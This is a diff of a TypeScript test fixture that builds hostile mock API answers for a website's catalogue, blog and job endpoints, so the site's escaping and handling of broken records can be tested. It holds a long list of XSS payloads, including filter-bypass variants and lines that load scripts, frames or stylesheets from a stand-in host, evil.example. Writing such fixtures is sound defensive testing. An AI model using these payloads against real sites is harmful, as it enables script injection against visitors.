@@ -1,50 +1,231 @@
 import type { Seed } from './seed/types.ts';
 
-/**
- * A catalogue answer full of what a careless back office can produce: records without names,
- * wrong types, null categories, empty objects, duplicated names and names with every awkward
- * character. The site must leave the broken records out by name and build the rest.
+/*
+ * Answers full of what a careless (or compromised) back office can produce: records without
+ * names, wrong types, null categories, empty objects, duplicated names, names with every
+ * awkward character, and HTML that tries to run code. The site must leave the broken records
+ * out by name, build the rest, and run none of it.
+ *
+ * A payload that runs sets `window.__xss` or opens a dialog; the browser tests look for both.
  */
+
+/** Strings that try to run code in a visitor's browser, as blog HTML or as plain text fields. */
+export const xssPayloads: readonly string[] = [
+  '<script>window.__xss=1</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="window.__xss=1">',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<img src="https://ok.example/a.png" onload="window.__xss=1">',
+  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
+  '<img srcset="data:image/svg+xml,%3Csvg%20onload=alert(1)%3E 1x" src="https://ok.example/a.png">',
+  '<img src="https://ok.example/a.png" alt="&quot; onerror=&quot;alert(1)">',
+  '<picture><source srcset="javascript:alert(1)"><img src="https://ok.example/a.png"></picture>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="JaVaScRiPt:alert(1)">click</a>',
+  '<a href="&#106;avascript:alert(1)">click</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
+  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>',
+  '<a href="javascript&colon;alert(1)">click</a>',
+  '<a href="  javascript:alert(1)">click</a>',
+  '<a href="java\tscript:alert(1)">click</a>',
+  '<a href="java\nscript:alert(1)">click</a>',
+  '<a href="\u0001javascript:alert(1)">click</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example/">protocol-relative</a>',
+  '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>',
+  '<a href="/" ping="https://evil.example/track">ping</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<object data="x.swf"></object>',
+  '<embed src="x.swf">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<body onload=alert(1)>',
+  '<div onclick="alert(1)">x</div>',
+  '<p onmouseover="alert(1)">hover</p>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<audio src=x onerror=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<form action="javascript:alert(1)"><button>go</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<isindex action=javascript:alert(1) type=image>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
+  '<style>body{background:url("javascript:alert(1)")}</style>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="behavior:url(x.htc)">x</p>',
+  '<div style="width: expression(alert(1))">x</div>',
+  '<a href="https://ok.example/" style="position:fixed;inset:0;z-index:9">overlay</a>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<div><select><template><style></template><img src onerror=alert(1)></style></select></div>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<p><!--[if gte IE 4]><script>alert(1)</script><![endif]--></p>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
+  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
+  '<portal src="https://evil.example"></portal>',
+  '<a id="__xss" name="__xss" href="https://ok.example/">clobber</a>',
+  '<img name="getElementById" src="https://ok.example/a.png">',
+  '<form name="attributes"><input name="nodeName"></form>',
+  '<span class="skip-link visually-hidden" id="main" hidden>x</span>',
+  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
+  '<a href="https://ok.example/" formaction="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">ns</a>',
+  '"><img src=x onerror=alert(1)>',
+  "'-alert(1)-'",
+  '</script><script>alert(1)</script>',
+  '{{constructor.constructor(\'alert(1)\')()}}',
+  '${alert(1)}',
+];
+
+/** Product and category names with every character a URL, a file system or an HTML page trips on. */
+export const awkwardNames: readonly string[] = [
+  '50% EC / Emulsifier',
+  'Neem & Karanj (Blend) + 2%',
+  'C# Grade? #1',
+  "Farmer's Choice 10'",
+  'Über-Wetter café',
+  'नीम तेल 1500 ppm',
+  'Tilde~Under_score',
+  '..',
+  'Script </script><img src=x onerror=alert(1)>',
+  'Back\\slash',
+  'Quote "Double" <b>bold</b>',
+  'Percent %2F %25 encoded',
+  'زيت النيم العربي',
+  'Emoji 🌱 Grow 💧',
+  'Zero\u200bWidth\u200dJoin',
+  'Tab\tand  double  space',
+  'javascript:alert(1)',
+  '{{constructor}} ${7*7}',
+  'Ampersand &amp; entity &lt;',
+  'A'.repeat(120),
+  // Longer than a file name may be (255 bytes) once written as a path segment.
+  'ऑर्थोसिलिसिक एसिड आधारित पौध पोषक तत्व जो धान गन्ना और फल वृक्षों में उपयोग होता है और मिट्टी की उर्वरता बढ़ाता है',
+];
+
+const titleCaseVariant = (name: string) => name.toUpperCase();
+
+/** GetAllProduct: the seed plus every kind of broken and awkward record. */
 export function createHostileCatalogue(seed: Seed): Record<string, unknown> {
   const [first, second] = seed.products;
   const category = seed.categories[0] ?? { _id: 'c1', Name: 'Fertilizers' };
-  const awkwardNames = [
-    '50% EC / Emulsifier',
-    'Neem & Karanj (Blend) + 2%',
-    'C# Grade? #1',
-    "Farmer's Choice 10'",
-    'Über-Wetter café',
-    'नीम तेल 1500 ppm',
-    'Tilde~Under_score',
-    '..',
-    'Script </script><img src=x onerror=alert(1)>',
-    'Back\\slash',
-  ];
+  const awkwardCategory = { _id: 'awkward-category', Name: 'Agro / Pest & Co. 100% <i>New</i>' };
+  const awkwardSubCategory = { _id: 'awkward-sub', Name: 'Sub "Quoted" ~ #1' };
   const awkward = awkwardNames.map((name, index) => ({
     ...first,
     _id: `awkward-${index}`,
     Name: name,
     ProductCode: index % 2 ? `AW ${index}/${index + 1}` : '',
+    description: `${xssPayloads[index % xssPayloads.length]} Description of ${name}.`,
+    General_Features: [xssPayloads[(index + 1) % xssPayloads.length], 'A plain feature'],
+    Instructions: [xssPayloads[(index + 2) % xssPayloads.length]],
+    // Every third one sits in a category and sub-category with awkward names of their own.
+    ...(index % 3 === 0 ? { Categories: awkwardCategory, SubCategories: awkwardSubCategory } : {}),
   }));
   return {
     status: true,
     message: 'Products fetched',
-    categories: [...seed.categories, { _id: 'dup', Name: category.Name }, { Name: '' }, {}],
-    subCategories: [...seed.subCategories, { _id: 42 }],
+    categories: [...seed.categories, awkwardCategory, { _id: 'dup', Name: category.Name }, { Name: '' }, {}, null],
+    subCategories: [...seed.subCategories, awkwardSubCategory, { _id: 42 }, { Name: ['x'] }],
     products: [
       ...seed.products,
       ...awkward,
       { ...first, _id: 'dup-1' },
       { ...second, _id: 'dup-2', ProductCode: second?.ProductCode ?? '' },
+      { ...first, _id: 'dup-3', Name: first ? titleCaseVariant(first.Name) : 'UPPER' },
       { ...first, _id: 'no-name', Name: undefined },
       { ...first, _id: 'blank-name', Name: '   ' },
       { ...first, _id: 'number-features', General_Features: 7, Name: 'Numeric Features Product' },
       { ...first, _id: 'null-category', Name: 'Orphan Product', Categories: null },
       { ...first, _id: 'wrong-category', Name: 'Wrong Category Product', Categories: 12 },
       { ...first, _id: 'object-name', Name: { en: 'Object Name' } },
+      { ...first, _id: 'array-image', Name: 'Odd Image Product', Image: [null, 7, '', 'javascript:alert(1)'], VideoGuides: 'javascript:alert(1)' },
       {},
       null,
       'not a product',
+      42,
     ],
   };
+}
+
+/** getAllBlogs: a post whose body is every payload, awkward and duplicated titles, broken records. */
+export function createHostileBlogs(seed: Seed): Record<string, unknown> {
+  const [first] = seed.blogs;
+  const image = first?.image ?? '';
+  const createdAt = first?.createdAt ?? '2025-01-01T00:00:00.000Z';
+  const body = xssPayloads.map((payload) => `<p>Before</p>${payload}<p>After</p>`).join('\n');
+  return {
+    status: 1,
+    message: 'Blogs fetched',
+    data: [
+      ...seed.blogs,
+      { _id: 'hostile-blog', title: 'Field notes: payloads in a post', image, description: `<h1>Heading</h1>${body}`, createdAt },
+      { _id: 'hostile-title', title: '<img src=x onerror=alert(1)> "Title" & more', image: 'javascript:alert(1)', description: '<p>Short post.</p>', createdAt },
+      { _id: 'hostile-dup', title: first?.title ?? 'Duplicate', image, description: '<p>Same title again.</p>', createdAt },
+      { _id: 'hostile-date', title: 'Post with a broken date', image, description: '<p>Date is garbage.</p>', createdAt: 'yesterday-ish' },
+      { _id: 'hostile-no-title', image, description: '<p>No title.</p>', createdAt },
+      { _id: 'hostile-number-title', title: 12345, image, description: 7, createdAt: 0 },
+      {},
+      null,
+    ],
+  };
+}
+
+/** getAllJobPosts: payloads in text fields, salaries as text, broken records. */
+export function createHostileJobs(seed: Seed): Record<string, unknown> {
+  const [first] = seed.jobs;
+  return {
+    status: 1,
+    message: 'Job posts fetched',
+    data: [
+      ...seed.jobs,
+      { ...first, id: 'hostile-job', role: 'Chemist <script>window.__xss=1</script>', otherDetails: xssPayloads.slice(0, 8).join(' '), jobdec: 'javascript:alert(1)' },
+      { ...first, id: 'hostile-salary', role: 'Sales Executive (text salaries)', lowSalary: '₹ 3,00,000', highSalary: 'negotiable', vacancy: '2' },
+      { ...first, id: 'hostile-no-role', role: undefined },
+      {},
+      null,
+    ],
+  };
+}
+
+/** The hostile answer for one endpoint; endpoints without a hostile variant get the catalogue. */
+export function createHostileAnswer(endpoint: string, seed: Seed): Record<string, unknown> {
+  switch (endpoint.toLowerCase()) {
+    case 'getallblogs':
+      return createHostileBlogs(seed);
+    case 'getalljobposts':
+      return createHostileJobs(seed);
+    default:
+      return createHostileCatalogue(seed);
+  }
 }
